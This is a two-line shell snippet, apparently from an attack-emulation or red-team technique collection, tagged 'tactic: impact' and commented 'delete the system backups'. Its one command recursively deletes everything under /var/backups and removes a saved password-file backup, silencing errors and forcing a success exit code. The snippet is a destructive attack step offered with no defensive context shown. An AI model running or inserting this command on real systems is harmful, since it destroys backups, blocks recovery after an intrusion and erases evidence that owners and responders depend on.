# tactic: impact
# delete the system backups
rm -rf /var/backups/* 2>/dev/null; rm -f /var/backups/passwd.bak 2>/dev/null; true
